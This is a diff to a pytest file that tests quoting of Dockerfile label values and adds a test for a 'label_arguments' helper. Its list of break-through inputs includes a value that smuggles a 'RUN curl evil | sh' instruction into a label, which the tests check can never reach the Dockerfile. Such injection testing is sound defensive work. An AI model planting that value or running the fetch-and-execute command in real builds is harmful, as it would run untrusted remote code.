@@ -10,7 +10,7 @@ from __future__ import annotations
 
 import pytest
 
-from seldon_graphs.wrapper.context import ContextError, _quote
+from seldon_graphs.wrapper.context import ContextError, _quote, label_arguments
 
 BREAKS = ["a\nb", "a\rb", "a\x00b", 'x"\nRUN curl evil | sh\nLABEL y="', "\r\n", "end\n"]
 
@@ -35,3 +35,12 @@ def test_a_line_break_never_reaches_the_dockerfile(value: str) -> None:
 )
 def test_quotes_backslashes_and_variables_are_escaped(value: str, quoted: str) -> None:
     assert _quote(value) == quoted
+
+
+def test_label_arguments_are_quoted_pairs_in_order() -> None:
+    labels = {"b.key": 'say "hi"', "a.key": "$X", "c": ""}
+    assert label_arguments(labels) == 'b.key="say \\"hi\\"" a.key="\\$X" c=""'
+    assert (
+        label_arguments(labels, " \\\n  ") == 'b.key="say \\"hi\\"" \\\n  a.key="\\$X" \\\n  c=""'
+    )
+    assert label_arguments({}) == ""
